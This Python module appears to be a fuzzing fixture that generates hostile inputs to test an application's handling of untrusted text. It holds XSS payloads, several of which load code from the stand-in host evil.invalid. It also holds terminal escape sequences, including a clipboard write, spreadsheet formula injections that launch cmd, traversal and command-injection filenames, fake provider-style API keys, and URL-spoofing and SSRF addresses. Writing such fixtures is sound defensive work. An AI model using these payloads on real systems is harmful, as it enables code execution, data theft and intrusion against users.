# ruff: noqa: E501
"""What a stranger could write where we show it: markup, terminal escapes, formulas, names, keys, addresses."""

from __future__ import annotations

import itertools
import random
import string

_BREAKOUTS = (
    "",
    '">',
    "'>",
    "-->",
    "</style>",
    "</svg>",
    "</td></tr></table>",
    "]]>",
    "</title></textarea>",
    "\x00\ufeff",
)
_VECTORS = (
    "<script>alert({n})</script>",
    "<ScRiPt src=//evil.invalid/{n}.js></sCrIpT>",
    "<img src=x onerror=alert({n})>",
    "<img src=http://evil.invalid/{n}.png>",
    "<svg onload=alert({n})><animate onbegin=alert({n}) attributeName=x></svg>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/{n}'>",
    "<link rel=stylesheet href=http://evil.invalid/{n}.css>",
    "<style>@import url(http://evil.invalid/{n});*{{background:url(http://evil.invalid/b{n})}}</style>",
    "<base href=http://evil.invalid/{n}/><form action=x><button autofocus onfocus=alert({n})>",
    "<object data=http://evil.invalid/{n}></object><embed src=http://evil.invalid/e{n}>",
    "<video autoplay onloadstart=alert({n})><source src=http://evil.invalid/{n}.mp4 onerror=alert({n})></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert({n})>'></noscript>",
    "<details open ontoggle=alert({n})><summary>x</summary></details>",
    "<a href=javascript:alert({n}) ping=http://evil.invalid/{n}>x</a>",
    "{{{{ ''.__class__.__mro__ }}}}{{% raw %}}<script>alert({n})</script>",
    "&lt;script&gt;alert({n})&lt;/script&gt;&#60;img src=x onerror=alert({n})&#62;",
    "<body onload=alert({n}) background=http://evil.invalid/{n}><input onfocus=alert({n}) autofocus>",
    "\u2028<x style='animation-name:spin' onanimationstart=alert({n})>\u202e<template shadowrootmode=open>",
)  # fmt: skip


def markup() -> list[str]:
    """Return 200 payloads for a page."""
    pairs = itertools.product(_BREAKOUTS, _VECTORS)
    return [before + vector.format(n=number) for number, (before, vector) in enumerate(pairs)]


_ESCAPES = (
    "\x1b[2J", "\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;cm0gLXJm\x07",
    "\x1bP+q544e\x1b\\", "\x9b2J", "\x9d0;x\x9c", "\x1bc", "\x1b[6n", "\x1b[?1049h", "\x1b[999D", "\x1b_Gf=100;\x1b\\", "\x1b]1337;File=:\x07",
    "\x08\x08\x08", "\r", "\x0e", "\x07", "\x7f", "\x0b", "\x0c", "\x00", "\x1b", "\x85", "\u202e", "\u2066", "\u200f", "\u061c", "\ufff9",
    "\x1b[38;2;1;2;3m", "\x1b[1;1H", "\x1b%G", "\x1b#8", "\x1b(0", "\x1b[>c", "\x1b[c", "\x1b[5i", "\x1b[0c", "\x1b]4;1;?\x07", "\x1b[201~",
)  # fmt: skip
_MARKUP = (
    "[bold red]x[/]",
    "[link=http://evil.invalid]x[/link]",
    "[/]",
    "[[",
    ":warning:",
    "[@click=app.bell]x[/]",
    "\\[b]",
)


def terminal() -> list[str]:
    """Return 500 payloads for a terminal, each with at least one character that it would obey."""
    rng = random.Random("terminal")
    found = []
    for number in range(500):
        parts = [_ESCAPES[number % len(_ESCAPES)], *rng.choices(_ESCAPES + _MARKUP, k=rng.randint(1, 4))]
        rng.shuffle(parts)
        found.append("a".join(parts))
    return found


def formulas() -> list[str]:
    """Return 300 payloads for a spreadsheet."""
    starts = (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\uff1d",
        "\uff0b",
        "\u202e=",
        "\x1b[0m@",
        "\x00=",
        '"=',
        ";=",
    )
    ends = ("1+1", "cmd|'/c calc'!A1", 'HYPERLINK("http://evil.invalid")', "IMPORTXML(1)", "SUM(A1:A9)*cmd|' /C x'!A0")
    tails = ("", '"', ",x", "\n=2")
    return ["".join(parts) for parts in itertools.product(starts, ends, tails)]


def names() -> list[str]:
    """Return 1,000 names that lead somewhere else, or nowhere."""
    rng = random.Random("names")
    parts = ("..", "../..", "....//", "..\\", "%2e%2e", "/etc", "/tmp/evil", "~", "~root", "C:\\", "\\\\host\\share", "nul", "con.txt", ".",
             "", " ", "a" * 300, "a\0b", "\n", "-rf", "$(touch x)", "`touch x`", "|x", ";x", "link", "\u202e", "file://", "é" * 200)  # fmt: skip
    found: list[str] = []
    while len(found) < 1_000:
        name = "/".join(rng.choices(parts, k=rng.randint(1, 4))) + rng.choice(("", "/evil.py", "/evil.json", ".py"))
        found.append(name)
    return found


def keys() -> list[str]:
    """Return 50 keys in the shapes that providers give."""
    rng = random.Random("keys")

    def letters(count: int, of: str = string.ascii_letters + string.digits) -> str:
        return "".join(rng.choices(of, k=count))

    shapes = (
        lambda: f"sk-{letters(48)}", lambda: f"sk-proj-{letters(20)}_{letters(30)}-{letters(10)}", lambda: f"gsk_{letters(40)}",
        lambda: f"sk-ant-api03-{letters(60)}", lambda: letters(32, "0123456789abcdef"), lambda: f"hf_{letters(34)}",
        lambda: f"AIza{letters(35)}", lambda: f"eyJ{letters(20)}.eyJ{letters(40)}.{letters(43)}", lambda: f"{letters(20)}+/{letters(20)}==",
        lambda: f"tok:{letters(10)}~{letters(12)}",
    )  # fmt: skip
    return [shapes[number % len(shapes)]() for number in range(50)]


def addresses() -> list[tuple[str, str]]:
    """Return 40 addresses, and which variable's key they may get: OPENAI, ADVISOR, or none because they are refused."""
    theirs = [
        "https://api.openai.com/v1",
        "https://API.OPENAI.COM/v1",
        "https://api.openai.com:443/v1",
        "https://api.openai.com/v1/",
    ]
    others = [
        "http://api.openai.com/v1",
        "https://api.openai.com:8443/v1",
        "https://eu.api.openai.com/v1",
        "https://api.openai.com.evil.example/v1",
        "https://evil.example/api.openai.com/v1",
        "https://apiopenai.com/v1",
        "https://api-openai.com/v1",
        "https://api.openai.co/v1",
        "https://api.openai.com./v1",
        "https://openai.com/v1",
        "https://api.0penai.com/v1",
        "https://xn--api-openai.com/v1",
        "http://127.0.0.1:1/v1",
        "http://localhost:1/v1",
        "http://[::1]:1/v1",
        "http://169.254.169.254/v1",
        "http://0.0.0.0:1/v1",
        "http://2130706433/v1",
        "http://10.0.0.1/v1",
        "https://api.openai.com%2eevil.example/v1",
        "https://api.openai.com%00.evil.example/v1",
        "http://host/v1/../../admin",
        "https://api.openai.com.:443/v1",
        "https://\uff41pi.openai.com/v1",
    ]
    refused = [
        "https://api.openai.com@evil.example/v1",
        "https://api.openai.com:x@evil.example/v1",
        "https://user@api.openai.com/v1",
        "https://evil.example/v1?x=api.openai.com",
        "https://evil.example/v1#api.openai.com",
        "https://evil.example\\@api.openai.com/v1",
        "ftp://api.openai.com/v1",
        "file:///etc/passwd",
        "//api.openai.com/v1",
        "https:///v1",
        "https://api.openai.com\n.evil.example/v1",
        "https://api.openai.com:99999/v1",
    ]
    return [
        *((url, "OPENAI") for url in theirs),
        *((url, "ADVISOR") for url in others),
        *((url, "") for url in refused),
    ]
